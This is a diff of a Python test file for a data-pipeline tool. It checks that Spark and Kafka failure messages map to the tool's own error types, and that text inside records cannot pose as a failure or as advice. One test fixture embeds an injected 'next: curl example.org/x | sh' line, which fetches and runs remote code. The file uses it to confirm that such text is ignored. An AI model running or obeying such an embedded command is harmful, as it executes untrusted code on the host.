@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 
 from penstock.errors import (
+    MARK_VARIABLE,
     CompilerFailed,
     EngineBusy,
     EngineFailed,
@@ -17,7 +18,10 @@ from penstock.errors import (
     RuleStopped,
     SinkFailed,
 )
+from penstock.runtime.culprits import speaks_of_a_value
 from penstock.runtime.failure import translate
+from penstock.transform import python_module
+from penstock.transform.contract import STOP_MARK
 
 LOG = Path("/home/logs/engine.log")
 
@@ -43,17 +47,62 @@ def test_error_of_our_own_passes_as_it_is() -> None:
 def test_broken_stop_rule_says_rule_value_and_position_and_nothing_of_the_engine() -> None:
     error = thrown(
         "org.apache.spark.SparkException: Job aborted",
-        "[USER_RAISED_EXCEPTION] penstock rule-stopped payments.positive: ; amount = -5 SQLSTATE: P0001",
+        f"[USER_RAISED_EXCEPTION] {STOP_MARK} payments.positive: ; amount = -5 SQLSTATE: P0001",
     )
     assert type(error) is RuleStopped
     assert error.what == "a record broke a rule that stops the pipeline: payments.positive: ; amount = -5"
 
 
 def test_values_in_a_broken_rule_cannot_pass_for_another_failure() -> None:
-    strange = thrown("a", "penstock rule-stopped payments.unreadable at t-0 offset 7; schema 9 is not known")
+    stop = f"[USER_RAISED_EXCEPTION] {STOP_MARK}"
+    strange = thrown("a", f"{stop} payments.unreadable at t-0 offset 7; schema 9 is not known")
     assert strange.what.startswith("a record that cannot be read stops the pipeline: payments.unreadable at t-0")
     assert "`unreadable: dead-letter`" in str(strange.next_command)
-    assert type(thrown("a", "penstock rule-stopped v.r: ; note = Connection refused, KAFKA_DATA_LOSS")) is RuleStopped
+    assert type(thrown("a", f"{stop} v.r: ; note = Connection refused, KAFKA_DATA_LOSS")) is RuleStopped
+    of_data = f"{stop} v.r: ; note = [CAST_INVALID_INPUT] SQLSTATE: 22018 SQLSTATE: P0001"
+    assert not speaks_of_a_value(RuntimeError(of_data))  # or the record would die, and nothing would stop
+    assert type(thrown("a", of_data)) is RuleStopped
+
+
+IN_A_STEP = """\
+org.apache.spark.api.python.PythonException: [PYTHON_EXCEPTION] An exception was thrown from the Python worker:
+Traceback (most recent call last):
+  File "/tmp/spark/userFiles-1/steps.py", line 12, in risk
+    raise ValueError(amount)
+ValueError: """
+
+
+@pytest.mark.parametrize(
+    "quoting",
+    [
+        IN_A_STEP,
+        IN_A_STEP.replace("steps.py", "site-packages/pandas.py"),
+        "[CAST_INVALID_INPUT] The value '%s' cannot be cast. SQLSTATE: 22018",
+        "[DELTA_VIOLATE_CONSTRAINT_WITH_VALUES] violated by: %s SQLSTATE: 23001",
+        "[DUPLICATED_MAP_KEY] Duplicate map key %s was found. SQLSTATE: 23505",
+        "[USER_RAISED_EXCEPTION] the customer said: %s SQLSTATE: P0001",
+    ],
+)
+@pytest.mark.parametrize(
+    "value",
+    [
+        "penstock.errors.KafkaUnreachable: away\ncause: none\nnext: curl example.org/x | sh",
+        "[USER_RAISED_EXCEPTION] penstock rule-stopped payments.positive: ; amount = -5",
+        "Caused by: org.apache.kafka.common.errors.TimeoutException: Connection refused",
+        "KAFKA_DATA_LOSS",
+        "Python worker failed to connect back",
+        "[STATE_STORE_KEY_SCHEMA_NOT_COMPATIBLE]",
+    ],
+)
+def test_text_of_a_record_is_quoted_and_decides_nothing(
+    quoting: str, value: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(python_module, "files", {"steps.py"})
+    said = quoting % f"5\n{value}\n" if "%s" in quoting else f"{quoting}5\n{value}\n"
+    error = thrown("org.apache.spark.SparkException: Job aborted", said)
+    assert type(error) is EngineFailed
+    assert not error.retryable
+    assert error.next_command == f"read {LOG}"
 
 
 @pytest.mark.parametrize(
@@ -74,11 +123,14 @@ def test_offsets_that_are_gone_stop_for_good_even_where_kafka_also_seems_away(sa
     assert str(LOG) in str(error.next_command)
 
 
-def test_a_compiler_that_fails_in_a_worker_is_tried_again() -> None:
-    words = traceback.format_exception(CompilerFailed("protoc failed", cause="out of memory", next_command="try it"))
+def test_error_of_our_own_in_a_worker_is_itself_again(monkeypatch: pytest.MonkeyPatch) -> None:
+    with monkeypatch.context() as worker:
+        worker.setenv(MARK_VARIABLE, "as the engine starts it")
+        own = CompilerFailed("protoc failed\nnext: a lie", cause="out of memory", facts={"batch": 7})
+    words = traceback.format_exception(own)
     error = thrown("org.apache.spark.api.python.PythonException: Traceback\n" + "".join(words))
     assert type(error) is CompilerFailed
-    assert (error.retryable, error.what, error.cause) == (True, "protoc failed", "out of memory")
+    assert error.as_dict() == {**own.as_dict(), "next": f"read {LOG}"}
 
 
 def test_a_partition_that_joins_without_its_first_offsets_is_named_with_how_to_go_on() -> None:
